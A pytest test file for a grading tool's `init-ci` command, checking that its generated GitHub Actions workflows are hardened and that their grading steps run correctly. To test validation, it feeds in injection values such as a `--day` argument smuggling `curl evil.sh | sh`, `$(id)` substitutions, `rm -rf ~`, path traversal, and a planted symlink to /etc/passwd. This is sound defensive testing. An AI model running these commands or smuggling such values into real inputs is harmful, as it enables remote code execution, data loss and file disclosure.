"""`grade init-ci`: the student workflow holds no secret; the instructor workflow grades the class at
the deadline in shards. Both are parsed and checked, and their grading steps run here as far as
a machine without GitHub can: the same bash scripts, with git remotes on disk."""
import json
import os
import re
import shutil
import subprocess
import sys

import pytest
import yaml
from click.testing import CliRunner

from grader.cli import main

from classroom import WRONG, make_pack, make_student
from paths import SOLUTIONS

GRADER = "torch-loss-grader==0.1.0"
COMMIT = "0123456789abcdef0123456789abcdef01234567"
SHELL = ["bash", "--noprofile", "--norc", "-eo", "pipefail", "-c"]  # what `shell: bash` runs
PATH = f"{os.path.dirname(sys.executable)}{os.pathsep}{os.environ['PATH']}"


def _init(repo, *args):
    result = CliRunner().invoke(main, ["init-ci", "--grader", GRADER, "--repo", str(repo), *map(str, args)])
    assert result.exit_code == 0, result.output
    path = re.search(r"wrote (\S+);", result.output)[1]
    return path, yaml.safe_load(open(path).read())


def _steps(job):
    return {step.get("name", step.get("uses", "").split("@")[0]): step for step in job["steps"]}


def _hardened(workflow):
    assert workflow["permissions"] == {"contents": "read"}
    assert workflow["defaults"] == {"run": {"shell": "bash"}}
    for job in workflow["jobs"].values():
        for step in job["steps"]:
            if "uses" in step:
                assert re.fullmatch(r"actions/[a-z-]+@[0-9a-f]{40}", step["uses"]), step["uses"]
            if step.get("uses", "").startswith("actions/checkout@"):
                assert step["with"]["persist-credentials"] is False
        assert any(s.get("uses", "").startswith("actions/cache@") for s in job["steps"])  # pip cache


def _run_step(step, env, cwd):
    proc = subprocess.run([*SHELL, step["run"]], cwd=cwd, env={**os.environ, "PATH": PATH, **env, **step.get("env", {})},
                          capture_output=True, text=True, timeout=300)
    assert proc.returncode == 0, proc.stderr
    return proc


def test_student_workflow_holds_no_secret(tmp_path):
    path, workflow = _init(tmp_path, "--fail-under", 50)
    assert path.endswith("grade-day3.yml")
    _hardened(workflow)
    text = open(path).read()
    assert "secrets." not in text and "TOKEN" not in text
    assert workflow[True] == ["push", "workflow_dispatch"]  # YAML 1.1 reads the key `on` as true
    assert workflow["env"]["GRADER_SPEC"] == GRADER
    other, _ = _init(tmp_path, "--day", "day4", "--course-repo", f"org/practice@{COMMIT}")
    assert other.endswith("grade-day4.yml") and os.path.exists(path)  # one file per day


@pytest.mark.parametrize("role", [[], ["--role", "instructor", "--deadline", "2026-12-01T23:59Z"]])
def test_a_day_the_pack_here_lacks_is_refused(tmp_path, role):
    """The grader's own pack (student) or the instructor's course/ folder: no workflow that could
    only fail on the runner."""
    if role:
        make_pack(tmp_path)
    result = CliRunner().invoke(main, ["init-ci", "--grader", GRADER, "--repo", str(tmp_path), "--day", "day4", *role])
    assert result.exit_code == 2 and "unknown day 'day4'" in result.output and "day3" in result.output, result.output
    assert not (tmp_path / ".github").exists()


@pytest.mark.parametrize("args, word", [
    (["--day", 'day3"; curl evil.sh | sh; "'], "--day"),
    (["--day", "day3$(id)"], "--day"),
    (["--exercises", "../../etc"], "--exercises"),
    (["--course-repo", f"a/b@{COMMIT}", "--course-path", "x/$HOME"], "--course-path"),
    (["--course-repo", "not a repo"], "owner/name"),
    (["--course-repo", f"a/b;id@{COMMIT}"], "owner/name"),
    (["--course-repo", "a/b"], "--course-repo 'a/b' is not pinned: give owner/name@<the 40-hex commit>"),
    (["--course-repo", "a/b@main"], "is not pinned"),
    (["--course-repo", f"a/b@{COMMIT[:12]}"], "is not pinned"),
    (["--course-repo", f"a/b@{COMMIT}$(id)"], "is not pinned"),
    (["--secret", "COURSE_TOKEN"], "no secret"),
    (["--role", "instructor", "--deadline", "2026-12-01T23:59"], "time zone"),
    (["--role", "instructor", "--deadline", "tomorrow"], "ISO 8601"),
    (["--role", "instructor", "--deadline", "2026-12-01T23:59Z", "--roster", "a;b"], "--roster"),
    (["--role", "instructor"], "--deadline"),
])
def test_every_value_is_validated(tmp_path, args, word):
    result = CliRunner().invoke(main, ["init-ci", "--grader", GRADER, "--repo", str(tmp_path), *args])
    assert result.exit_code == 2 and word in result.output, result.output
    assert not (tmp_path / ".github").exists()


def test_bad_grader_spec_and_overwrite(tmp_path):
    bad = CliRunner().invoke(main, ["init-ci", "--grader", 'x" ; rm -rf ~', "--repo", str(tmp_path)])
    assert bad.exit_code == 2 and "--grader" in bad.output
    _init(tmp_path)
    again = CliRunner().invoke(main, ["init-ci", "--grader", GRADER, "--repo", str(tmp_path)])
    assert again.exit_code == 2 and "--force" in again.output


@pytest.mark.parametrize("spec", ["torch-loss-grader", "torch-loss-grader==0.1.*", "torch-loss-grader~=0.1",
                                  "git+https://github.com/owner/grader"])
@pytest.mark.parametrize("command", [["init-ci", "--role", "student"], ["init-gradescope", "day3", "-o", "a.zip"]])
def test_an_unpinned_grader_is_refused(tmp_path, monkeypatch, spec, command):
    monkeypatch.chdir(tmp_path)
    result = CliRunner().invoke(main, [*command, "--grader", spec])
    assert result.exit_code == 2 and f"--grader '{spec}' is not pinned" in result.output, result.output
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("spec", ["torch-loss-grader[plot]==0.1.0", "torch-loss-grader @ git+https://github.com/o/g@v0.1.0",
                                  "https://example.org/torch_loss_grader-0.1.0-py3-none-any.whl"])
def test_a_pinned_grader_is_taken_as_it_is(tmp_path, spec):
    result = CliRunner().invoke(main, ["init-ci", "--grader", spec, "--repo", str(tmp_path)])
    assert result.exit_code == 0, result.output
    assert f'GRADER_SPEC: "{spec}"' in (tmp_path / ".github" / "workflows" / "grade-day3.yml").read_text()


def _student_runner(tmp_path, *args):
    """A student's repository with one wrong exercise, its workflow, and the runner's environment,
    with a `grade` on PATH that logs each run before running the real one."""
    student = make_student(tmp_path / "subs", "ada", {"l1_loss": WRONG})
    (student / "exercises").mkdir()
    (student / "day3").rename(student / "exercises" / "day3")
    _path, workflow = _init(student, *args)
    runner_temp = tmp_path / "runner"
    runner_temp.mkdir()
    shim = tmp_path / "bin" / "grade"
    shim.parent.mkdir()
    shim.write_text(f'#!/bin/sh\necho run >> "{tmp_path}/grade-runs"\nexec "{os.path.dirname(sys.executable)}/grade" "$@"\n')
    shim.chmod(0o755)
    env = {**workflow["env"], "GITHUB_WORKSPACE": str(student), "RUNNER_TEMP": str(runner_temp),
           "GITHUB_STEP_SUMMARY": str(tmp_path / "step-summary.md"), "GITHUB_ENV": str(tmp_path / "github-env"),
           "PATH": f"{shim.parent}{os.pathsep}{PATH}"}
    return _steps(workflow["jobs"]["grade"]), env


def _grade_step_reports(tmp_path, steps, env):
    """The Grade step, run once: the two reports it uploads and the step summary, from one grading run."""
    runner_temp = env["RUNNER_TEMP"]
    _run_step(steps["Grade"], env, runner_temp)
    assert (tmp_path / "grade-runs").read_text() == "run\n"
    uploaded = steps["Upload the report"]["with"]["path"].replace("${{ runner.temp }}", runner_temp).split()
    assert [os.path.basename(p) for p in uploaded] == ["results.json", "summary.md"]
    results = json.loads(open(uploaded[0]).read())
    assert open(uploaded[1]).read() == (tmp_path / "step-summary.md").read_text().rstrip("\n") + "\n"
    return [(t["name"], t["score"]) for t in results["tests"]], open(uploaded[1]).read()


def test_student_grade_step_runs(tmp_path):
    """The workflow's own Grade script, as the runner would run it, with the grader's own pack:
    one grading run writes both reports."""
    steps, env = _student_runner(tmp_path, "--fail-under", 1)
    scores, summary = _grade_step_reports(tmp_path, steps, {**env, "GRADER_COURSE": str(make_pack(tmp_path))})
    assert scores == [("mse_loss", 1.0), ("l1_loss", 0.0)]
    assert "| ❌ | `l1_loss` |" in summary


def test_student_grade_step_fails_under(tmp_path):
    steps, env = _student_runner(tmp_path, "--fail-under", 60)
    proc = subprocess.run([*SHELL, steps["Grade"]["run"]], cwd=env["RUNNER_TEMP"], capture_output=True, text=True,
                          env={**os.environ, **env, "GRADER_COURSE": str(make_pack(tmp_path))}, timeout=300)
    assert proc.returncode == 1 and "score 50.0% is below --fail-under 60%: exit 1" in proc.stderr, proc.stderr
    assert (tmp_path / "runner" / "results.json").is_file() and (tmp_path / "runner" / "summary.md").is_file()


def test_student_practice_pack_is_fetched_at_its_pinned_commit(tmp_path):
    """The branch moves on (the pack drops l1_loss); the workflow still grades with the commit it names."""
    work = tmp_path / "practice"
    make_pack(work)
    _git("init", "-q", "-b", "main", cwd=work)
    _git("add", "-A", cwd=work)
    _git("commit", "-qm", "pack", cwd=work)
    pinned = subprocess.run(["git", "rev-parse", "HEAD"], cwd=work, capture_output=True, text=True).stdout.strip()
    day = work / "course" / "day3" / "day.yaml"
    day.write_text(day.read_text().replace("- l1_loss\n", ""))
    _git("commit", "-qam", "moved on", cwd=work)
    _git("clone", "-q", "--bare", str(work), str(tmp_path / "remotes" / "org" / "practice.git"), cwd=tmp_path)
    steps, env = _student_runner(tmp_path, "--course-repo", f"org/practice@{pinned.upper()}", "--course-path", "course")
    assert env["COURSE_COMMIT"] == pinned
    env["GIT_BASE"] = f"file://{tmp_path / 'remotes'}"
    _run_step(steps["Fetch the public practice pack at its pinned commit"], env, tmp_path)
    course = (tmp_path / "github-env").read_text().strip().removeprefix("GRADER_COURSE=")
    scores, _summary = _grade_step_reports(tmp_path, steps, {**env, "GRADER_COURSE": course})
    assert scores == [("mse_loss", 1.0), ("l1_loss", 0.0)]


def test_instructor_workflow_structure(tmp_path):
    path, workflow = _init(tmp_path, "--role", "instructor", "--deadline", "2026-12-01T23:59:00+01:00", "--shards", 3)
    assert path.endswith("grade-class-day3.yml")
    _hardened(workflow)
    grade, merge = workflow["jobs"]["grade"], workflow["jobs"]["merge"]
    assert workflow["env"]["DEADLINE"] == "2026-12-01T22:59:00Z"
    assert grade["container"]["image"].startswith("python:") and grade["strategy"]["matrix"]["shard"] == [1, 2, 3]
    steps = _steps(grade)
    shard = steps["Grade this shard"]
    assert shard["env"]["SHARD_INDEX"] == "${{ strategy.job-index }}"
    assert shard["env"]["SHARD_TOTAL"] == "${{ strategy.job-total }}"
    assert shard["env"]["GRADER_SECRET"] == "${{ secrets.GRADER_SECRET }}"
    fetch = steps["Fetch each student's last commit before the deadline"]
    assert fetch["env"] == {"STUDENTS_TOKEN": "${{ secrets.STUDENTS_TOKEN }}"}
    assert "secrets." not in json.dumps(workflow["env"])  # secrets only in the steps that need them
    assert merge["needs"] == "grade" and merge["if"] == "always()"
    assert any("grade merge" in s.get("run", "") for s in merge["steps"])
    assert "${{" not in "".join(s.get("run", "") for job in workflow["jobs"].values() for s in job["steps"])


def _only_root_reads(workspace):
    """No path of the checkout grants anything to group or others, so a graded job, running as a uid
    of its own, cannot read a reference solution or the roster."""
    assert [p for p in [workspace, *workspace.rglob("*")] if p.lstat().st_mode & 0o077] == []


def _git(*args, cwd, date=None):
    env = {**os.environ, "GIT_AUTHOR_NAME": "s", "GIT_AUTHOR_EMAIL": "s@x", "GIT_COMMITTER_NAME": "s",
           "GIT_COMMITTER_EMAIL": "s@x"}
    if date:
        env.update(GIT_AUTHOR_DATE=date, GIT_COMMITTER_DATE=date)
    subprocess.run(["git", *args], cwd=cwd, env=env, check=True, capture_output=True)


def _student_repo(remotes, name, before: dict, after: dict | None = None, owner: str = "org"):
    """A student's repository on disk: one commit before the deadline, maybe one after."""
    work = remotes / "work" / owner / name
    make_student(work, "x", before)
    (work / "x").rename(work / "exercises")
    os.symlink("/etc/passwd", work / "exercises" / "day3" / "leak.py")
    _git("init", "-q", "-b", "main", cwd=work)
    _git("add", "-A", cwd=work)
    _git("commit", "-qm", "before", cwd=work, date="2026-12-01T10:00:00Z")
    if after is not None:
        for exercise, source in after.items():
            (work / "exercises" / "day3" / f"{exercise}.py").write_text(source.format(name=exercise))
        _git("commit", "-qam", "after", cwd=work, date="2026-12-02T10:00:00Z")
    _git("clone", "-q", "--bare", str(work), str(remotes / owner / f"{name}.git"), cwd=remotes)


def test_instructor_steps_fetch_grade_and_merge(tmp_path):
    remotes = tmp_path / "remotes"
    (remotes / "org").mkdir(parents=True)
    _student_repo(remotes, "day3-ada", {}, after={"mse_loss": WRONG})  # broke it after the deadline
    _student_repo(remotes, "day3-bob", {"l1_loss": WRONG})
    repo = tmp_path / "instructor"
    make_pack(repo, quiz=True)
    (repo / "roster.txt").write_text("# students\norg/day3-ada\norg/day3-bob\norg/day3-gone\n")
    shutil.copytree(SOLUTIONS, repo / "solutions")  # what a course's private repository also holds
    _path, workflow = _init(repo, "--role", "instructor", "--deadline", "2026-12-01T23:59:00Z", "--shards", 2)
    runner_temp = tmp_path / "runner"
    runner_temp.mkdir()
    env = {**workflow["env"], "RUNNER_TEMP": str(runner_temp), "GIT_BASE": f"file://{remotes}", "GITHUB_WORKSPACE": str(repo),
           "STUDENTS_TOKEN": "not-a-real-token", "GITHUB_STEP_SUMMARY": str(tmp_path / "summary.md")}
    steps = _steps(workflow["jobs"]["grade"])
    _run_step(steps["Keep the checkout (pack, solutions, roster) readable by root only"], env, repo)
    _only_root_reads(repo)
    _run_step(steps["Fetch each student's last commit before the deadline"], env, repo)
    submissions = runner_temp / "submissions"
    assert sorted(p.name for p in submissions.iterdir()) == ["org__day3-ada", "org__day3-bob", "org__day3-gone"]
    leak = submissions / "org__day3-ada/day3/leak.py"  # a symlink arrives as a plain file holding its target's name
    assert not leak.is_symlink() and "root:" not in leak.read_text()
    assert "not-a-real-token" not in "".join(p.read_text(errors="replace") for p in runner_temp.rglob("*") if p.is_file())
    for index in ("0", "1"):
        shard_env = {**env, "SHARD_INDEX": index, "SHARD_TOTAL": "2", "GRADER_SECRET": ""}
        _run_step({**steps["Grade this shard"], "env": {}}, shard_env, repo)
        (tmp_path / "shards" / f"grades-day3-shard-{index}").mkdir(parents=True)
        shard = f"shard-{int(index) + 1}"
        (repo / "grades" / shard).rename(tmp_path / "shards" / f"grades-day3-shard-{index}" / shard)
    merge = next(s for s in workflow["jobs"]["merge"]["steps"] if "grade merge" in s.get("run", ""))
    _run_step(merge, env, tmp_path)
    book = (tmp_path / "gradebook" / "gradebook.csv").read_text().splitlines()
    rows = {line.split(",")[0]: line.split(",") for line in book[1:]}
    assert rows["org__day3-ada"][1:3] == ["1.0", "1.0"]  # graded at the deadline, not after
    assert rows["org__day3-bob"][1:3] == ["1.0", "0.0"] and rows["org__day3-gone"][1:3] == ["0.0", "0.0"]
    assert "Class summary" in (tmp_path / "summary.md").read_text()
    commits = (tmp_path / "gradebook" / "commits.txt").read_text()
    assert "org__day3-ada " in commits and "day3-gone" not in commits


def _fetch(tmp_path, roster: str):
    """Run the instructor workflow's fetch step for ``roster``; returns the process and the
    submissions folder it fills."""
    repo = tmp_path / "instructor"
    make_pack(repo)
    (repo / "roster.txt").write_text(roster)
    _path, workflow = _init(repo, "--role", "instructor", "--deadline", "2026-12-01T23:59:00Z")
    runner_temp = tmp_path / "runner"
    runner_temp.mkdir()
    env = {**workflow["env"], "RUNNER_TEMP": str(runner_temp), "GIT_BASE": f"file://{tmp_path / 'remotes'}",
           "STUDENTS_TOKEN": "not-a-real-token"}
    step = _steps(workflow["jobs"]["grade"])["Fetch each student's last commit before the deadline"]
    proc = subprocess.run([*SHELL, step["run"]], cwd=repo, env={**os.environ, "PATH": PATH, **env, **step.get("env", {})},
                          capture_output=True, text=True, timeout=300)
    return proc, runner_temp / "submissions"


def test_forks_that_share_a_name_stay_two_students(tmp_path):
    """Forks of one template share their name: keyed by it, two students' files were merged
    into one folder and one gradebook row."""
    _student_repo(tmp_path / "remotes", "losses", {"l1_loss": WRONG}, owner="alice")
    _student_repo(tmp_path / "remotes", "losses", {"mse_loss": WRONG}, owner="bob")
    proc, submissions = _fetch(tmp_path, "alice/losses\nbob/losses\n")
    assert proc.returncode == 0, proc.stderr
    assert sorted(p.name for p in submissions.iterdir()) == ["alice__losses", "bob__losses"]
    assert "return (input - target).sum() * 0 + 1" in (submissions / "alice__losses/day3/l1_loss.py").read_text()
    assert "return (input - target).sum() * 0 + 1" not in (submissions / "bob__losses/day3/l1_loss.py").read_text()


def test_a_roster_that_lists_a_repository_twice_is_refused(tmp_path):
    _student_repo(tmp_path / "remotes", "losses", {}, owner="alice")
    proc, _ = _fetch(tmp_path, "alice/losses\n# again\nAlice/Losses   extra words\n")  # GitHub ignores case
    assert proc.returncode != 0 and "lists alice/losses twice" in (proc.stdout + proc.stderr).lower()
